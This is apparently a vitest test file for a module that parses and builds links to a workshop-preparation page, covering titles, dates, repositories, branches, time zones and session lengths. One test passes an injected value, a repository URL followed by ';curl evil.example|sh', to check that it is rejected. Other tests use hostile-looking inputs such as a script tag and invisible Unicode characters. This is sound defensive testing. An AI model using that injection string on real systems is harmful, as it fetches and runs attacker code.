import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import {
	buildLinkQuery,
	buildPrepLink,
	formatPrepDate,
	parseDate,
	parseLinkParams,
	parseTitle,
	SETUP_KEYS,
	type LinkDetails,
} from './prep-link';
import { PLATFORM_IDS } from './platform-ids';
import { parseBranch, parseRepoUrl } from './repo';

describe('parseTitle', () => {
	test.each([
		{ raw: 'Deep learning night', value: 'Deep learning night' },
		{ raw: '  Deep\n\tlearning   night ', value: 'Deep learning night' },
		{ raw: 'Deep \u202Elearning\u200B', value: 'Deep learning' },
		{ raw: '<script>alert(1)</script>', value: '<script>alert(1)</script>' },
		{ raw: 'é'.repeat(120), value: 'é'.repeat(120) },
	])('reads $raw as $value', ({ raw, value }) => {
		expect(parseTitle(raw)).toEqual({ ok: true, value });
	});
	test.each([
		{ raw: '', reason: 'empty' },
		{ raw: '\u200B\u202E ', reason: 'empty' },
		{ raw: 'x'.repeat(121), reason: 'too-large' },
		{ raw: 'x'.repeat(10_240), reason: 'too-large' },
	])('refuses $reason titles', ({ raw, reason }) => {
		expect(parseTitle(raw)).toEqual({ ok: false, reason });
	});
});

describe('parseDate', () => {
	test.each(['2026-12-03', '2028-02-29', '2000-01-01'])('accepts %s', (raw) => {
		expect(parseDate(raw)).toEqual({ ok: true, value: raw });
	});
	test.each([
		{ raw: '2026-1-5', value: '2026-01-05' },
		{ raw: '2026/12/03', value: '2026-12-03' },
		{ raw: '2026.12.3', value: '2026-12-03' },
		{ raw: '15/12/2026', value: '2026-12-15' },
		{ raw: '15.12.2026', value: '2026-12-15' },
		{ raw: '12/15/2026', value: '2026-12-15' },
		{ raw: '5-5-2026', value: '2026-05-05' },
		{ raw: ' 29/02/2028 ', value: '2028-02-29' },
	])('reads the unambiguous $raw as $value', ({ raw, value }) => {
		expect(parseDate(raw)).toEqual({ ok: true, value });
	});
	test.each([
		'2026-02-30',
		'2027-02-29',
		'2026-13-01',
		'2026-00-10',
		'03/12/2026',
		'12/03/2026',
		'15/13/2026',
		'15-12/2026',
		'2026/12-03',
		'115/12/2026',
		'15/12/26',
		'1999-12-31',
		'2026-12-03T10:00',
		'2026-12-03<x>',
	])('refuses %s', (raw) => {
		expect(parseDate(raw).ok).toBe(false);
	});
});

describe('parseLinkParams', () => {
	test('reads the acceptance prep link', () => {
		const params = new URLSearchParams(
			'title=Deep%20learning%20night&date=2026-12-03&platform=colab&repo=https://github.com/ryanmark1867/dl_structured_data_hands_on',
		);
		expect(parseLinkParams(params)).toEqual({
			details: {
				title: 'Deep learning night',
				date: '2026-12-03',
				platform: 'colab',
				repo: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
			},
			notices: [],
		});
	});

	test('names each refused parameter and keeps the valid ones', () => {
		const params = new URLSearchParams({ platform: 'cocalc', repo: 'https://github.com/a/b;curl evil.example|sh', folder: 'dl' });
		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
		expect(details).toEqual({ platform: 'cocalc', folder: 'dl' });
		expect(notices).toEqual([{ param: 'repo', value: 'https://github.com/a/b;curl evil.exampl…', reason: 'rejected' }]);
	});

	test('does not use the branch and notebook of a refused repository on the default one', () => {
		const params = new URLSearchParams({ repo: 'https://evil.example/a/b', branch: 'dev', notebook: 'x.ipynb', folder: 'dl' });
		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
		expect(details).toEqual({ folder: 'dl' });
		expect(notices).toEqual([
			{ param: 'repo', value: 'https://evil.example/a/b', reason: 'rejected' },
			{ param: 'branch', value: 'dev', reason: 'without-repo' },
			{ param: 'notebook', value: 'x.ipynb', reason: 'without-repo' },
		]);
		// Without a repo in the link, the branch is the default repository's.
		expect(parseLinkParams(new URLSearchParams({ branch: 'dev' })).details).toEqual({ branch: 'dev' });
	});

	test.each([
		{ query: 'time=09:30', dropped: ['time'], reason: 'without-date' },
		{ query: 'date=2026-02-30&time=09:30&tz=Europe/Berlin', dropped: ['time', 'tz'], reason: 'without-date' },
		{ query: 'date=2026-12-03&tz=Europe/Berlin', dropped: ['tz'], reason: 'without-time' },
		{ query: 'date=2026-12-03&time=25:00&tz=Asia/Shanghai', dropped: ['tz'], reason: 'without-time' },
	])('says when $query has a time or zone with nothing to attach it to', ({ query, dropped, reason }) => {
		const { details, notices } = parseLinkParams(new URLSearchParams(query));
		expect(details.time === undefined && details.tz === undefined).toBe(true);
		const unusable = notices.filter((n) => n.reason.startsWith('without-'));
		expect(unusable.map((n) => n.param)).toEqual(dropped);
		expect(unusable[0]?.reason).toBe(reason);
		// A time or zone has no default: the notice must not say one applies.
		expect(unusable.every((n) => n.kind === 'instead')).toBe(true);
	});

	test.each([
		'date=2026-02-30',
		'date=2027-01-05&time=7:00',
		'date=2027-01-05&time=07:00&tz=Mars/Olympus',
		'date=2027-01-05&date=2027-01-06',
	])('a refused date, time or zone in %s has nothing in its place: its notice promises no default', (query) => {
		const { notices } = parseLinkParams(new URLSearchParams(query));
		const refused = notices.filter((n) => ['date', 'time', 'tz'].includes(n.param) && !n.reason.startsWith('without-'));
		expect(refused).toHaveLength(1);
		expect(refused[0]?.kind).toBe('instead');
	});
	test('a refused title has the default heading in its place: its notice says so', () => {
		expect(parseLinkParams(new URLSearchParams('title=%20')).notices[0]?.kind).toBeUndefined();
	});

	test('leaves a time with no date out of a built link, and a zone with no time', () => {
		expect(buildPrepLink('/prep/', { title: 'T', time: '09:30', tz: 'Europe/Berlin' })).toBe('/prep/?title=T');
		expect(buildPrepLink('/prep/', { date: '2026-12-03', tz: 'Europe/Berlin' })).toBe('/prep/?date=2026-12-03');
		expect(buildPrepLink('/prep/', { date: '2026-12-03', time: '09:30', tz: 'Europe/Berlin' })).toBe(
			'/prep/?date=2026-12-03&time=09%3A30&tz=Europe%2FBerlin',
		);
	});

	test('carries the event’s length with its start time only, and only when it is not the default 3 hours', () => {
		const start = { date: '2026-12-03', time: '09:30', tz: 'Europe/Berlin' };
		expect(buildPrepLink('/prep/', { ...start, session: 90 })).toBe('/prep/?date=2026-12-03&time=09%3A30&tz=Europe%2FBerlin&session=90');
		expect(buildPrepLink('/prep/', { ...start, session: 180 })).toBe('/prep/?date=2026-12-03&time=09%3A30&tz=Europe%2FBerlin');
		expect(buildPrepLink('/prep/', { date: '2026-12-03', session: 90 })).toBe('/prep/?date=2026-12-03');
		expect(parseLinkParams(new URLSearchParams('date=2026-12-03&time=09:30&session=90')).details.session).toBe(90);
		const alone = parseLinkParams(new URLSearchParams('date=2026-12-03&session=90'));
		expect(alone.details.session).toBeUndefined();
		expect(alone.notices).toEqual([{ param: 'session', value: '90', reason: 'without-time' }]);
		for (const bad of ['0', '1441', '90.5', 'ninety'])
			expect(
				parseLinkParams(new URLSearchParams(`date=2026-12-03&time=09:30&session=${bad}`)).notices.map((n) => n.param),
				bad,
			).toEqual(['session']);
	});

	test('shows refused values with each invisible character marked, never acting, cut short', () => {
		const { notices } = parseLinkParams(new URLSearchParams({ repo: `\u202E${'x'.repeat(200)}` }));
		expect(notices[0]?.value).toBe(`\uFFFD${'x'.repeat(38)}…`);
		// A hidden character after a valid-looking value: the notice shows why it was refused.
		const zeroWidth = parseLinkParams(new URLSearchParams({ repo: 'https://github.com/a/b\u200B' }));
		expect(zeroWidth.notices[0]?.value).toBe('https://github.com/a/b\uFFFD');
	});

	test('reads the branch from a branch page address when no branch is given', () => {
		const page = 'https://gitlab.com/acme/keras-101/-/tree/feature/x';
		expect(parseLinkParams(new URLSearchParams({ repo: page })).details).toEqual({
			repo: 'https://gitlab.com/acme/keras-101',
			branch: 'feature/x',
		});
		expect(parseLinkParams(new URLSearchParams({ repo: page, branch: 'main' })).details).toEqual({
			repo: 'https://gitlab.com/acme/keras-101',
			branch: 'main',
		});
		// A branch the link gives, even refused, is the link's choice: the page's is not used instead.
		expect(parseLinkParams(new URLSearchParams({ repo: page, branch: 'refs/pull/1/head' })).details).toEqual({
			repo: 'https://gitlab.com/acme/keras-101',
		});
	});

	test('reads the branch and the notebook from a notebook page address, each only where the link gives none', () => {
		const page = 'https://github.com/acme/keras-101/blob/main/notebooks/train.ipynb';
		const read = (extra: Record<string, string> = {}) => parseLinkParams(new URLSearchParams({ repo: page, ...extra })).details;
		expect(read()).toEqual({ repo: 'https://github.com/acme/keras-101', branch: 'main', notebook: 'notebooks/train.ipynb' });
		expect(read({ notebook: 'intro.ipynb' })).toEqual({
			repo: 'https://github.com/acme/keras-101',
			branch: 'main',
			notebook: 'intro.ipynb',
		});
		expect(read({ branch: 'dev' })).toEqual({
			repo: 'https://github.com/acme/keras-101',
			branch: 'dev',
			notebook: 'notebooks/train.ipynb',
		});
		// The prep link spells them out, so the attendee's page needs no address parsing.
		expect(buildLinkQuery({ repo: page }).toString()).toBe(
			new URLSearchParams({ repo: 'https://github.com/acme/keras-101', branch: 'main', notebook: 'notebooks/train.ipynb' }).toString(),
		);
	});

	test('gives the normalised forms the same prep link as the canonical one', () => {
		const canonical = buildPrepLink('/prep/', {
			repo: 'https://github.com/acme/keras-101',
			branch: 'main',
			notebook: 'notebooks/train.ipynb',
			date: '2026-12-15',
		});
		for (const query of [
			'repo=github.com/acme/keras-101/tree/main&notebook=/notebooks/train.ipynb&date=15/12/2026',
			'repo=https://github.com/acme/keras-101/&branch=main&notebook=notebooks/train.ipynb&date=2026/12/15',
		]) {
			const { details, notices } = parseLinkParams(new URLSearchParams(query));
			expect(notices).toEqual([]);
			expect(buildPrepLink('/prep/', details)).toBe(canonical);
		}
		expect(
			buildPrepLink('/prep/', {
				repo: 'https://github.com/acme/keras-101/tree/main',
				notebook: 'notebooks/train.ipynb',
				date: '2026-12-15',
			}),
		).toBe(canonical);
	});

	test('reads a start time and zone, and refuses bad ones with a notice each', () => {
		expect(parseLinkParams(new URLSearchParams('date=2026-12-03&time=09:30&tz=europe/berlin')).details).toEqual({
			date: '2026-12-03',
			time: '09:30',
			tz: 'Europe/Berlin',
		});
		const { details, notices } = parseLinkParams(new URLSearchParams('time=25:00&tz=Mars/Base'));
		expect(details).toEqual({});
		expect(notices).toEqual([
			{ param: 'time', value: '25:00', reason: 'rejected', kind: 'instead' },
			{ param: 'tz', value: 'Mars/Base', reason: 'unknown', kind: 'instead' },
		]);
	});

	test('ignores title and date where only the setup keys are read', () => {
		expect(parseLinkParams(new URLSearchParams({ title: 'x', date: 'bad' }), SETUP_KEYS)).toEqual({ details: {}, notices: [] });
	});
});

describe('buildPrepLink', () => {
	test('lists only the given values, in a fixed order', () => {
		expect(buildPrepLink('/prep/', { repo: 'https://github.com/a/b', title: 'Deep learning night', platform: 'cocalc' })).toBe(
			'/prep/?title=Deep+learning+night&platform=cocalc&repo=https%3A%2F%2Fgithub.com%2Fa%2Fb',
		);
	});
	test('is the bare path without details', () => {
		expect(buildPrepLink('/prep/', {})).toBe('/prep/');
	});
	test('leaves out values that would be refused', () => {
		expect(buildLinkQuery({ repo: 'https://evil.example/a/b', branch: 'a;b', date: '2026-02-30' }).toString()).toBe('');
	});

	const segment = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9._-]{0,11}$/).filter((s) => !s.includes('..') && !s.endsWith('.'));
	const details: fc.Arbitrary<LinkDetails> = fc.record(
		{
			platform: fc.constantFrom(...PLATFORM_IDS),
			repo: fc
				.tuple(
					fc.constantFrom('github.com', 'gitlab.com', 'codeberg.org', 'bitbucket.org'),
					fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9-]{0,10}$/),
					segment,
				)
				.map(([host, owner, name]) => `https://${host}/${owner}/${name.endsWith('.git') ? `${name}x` : name}`)
				.filter((url) => parseRepoUrl(url).ok),
			branch: fc
				.array(segment, { minLength: 1, maxLength: 3 })
				.map((s) => s.join('/'))
				.filter((b) => parseBranch(b).ok),
			folder: fc.array(segment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/')),
			notebook: fc.array(segment, { minLength: 0, maxLength: 2 }).map((s) => [...s, 'nb.ipynb'].join('/')),
			title: fc
				.string({ minLength: 1, maxLength: 120 })
				.map((s) => s.replace(/\s+/gu, ' ').trim())
				.filter((s) => s !== '' && /^[\p{L}\p{N}\p{P}\p{S} ]+$/u.test(s)),
			date: fc
				.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2100-12-31T00:00:00Z'), noInvalidDate: true })
				.map((d) => d.toISOString().slice(0, 10)),
			time: fc
				.tuple(fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }))
				.map(([h, m]) => `${String(h).padStart(2, '0')}:${String(m).padStart(2, '0')}`),
			tz: fc.constantFrom(...Intl.supportedValuesOf('timeZone')),
			session: fc.oneof(fc.constant(180), fc.integer({ min: 1, max: 1440 })),
		},
		{ requiredKeys: [] },
	);

	test('leaves out the default platform, which a link without one means', () => {
		expect(buildPrepLink('/prep/', { platform: 'colab', title: 'T' })).toBe('/prep/?title=T');
	});

	test('round-trips any valid details through a link (the default platform as its absence)', () => {
		fc.assert(
			fc.property(details, (d) => {
				const link = buildPrepLink('/prep/', d);
				const query = link.includes('?') ? link.slice(link.indexOf('?') + 1) : '';
				const { platform, ...rest } = d;
				const expected: LinkDetails = platform === 'colab' ? rest : { ...d };
				// A start time needs a date, and a zone a start time: alone they are not written.
				if (!expected.date) delete expected.time;
				if (!expected.time) delete expected.tz;
				// The event's length needs a start time, and the default length is the link's silence.
				if (!expected.time || expected.session === 180) delete expected.session;
				expect(parseLinkParams(new URLSearchParams(query))).toEqual({ details: expected, notices: [] });
			}),
			{ numRuns: 300 },
		);
	});
});

describe('formatPrepDate', () => {
	test.each([
		{ date: '2026-12-03', tag: 'en', expected: 'Thursday, December 3, 2026' },
		{ date: '2026-01-01', tag: 'en', expected: 'Thursday, January 1, 2026' },
		{ date: '2026-12-03', tag: 'zh-CN', expected: '2026 年 12 月 3 日星期四' },
	])('formats $date for $tag', ({ date, tag, expected }) => {
		expect(formatPrepDate(date, tag)).toBe(expected);
	});
});
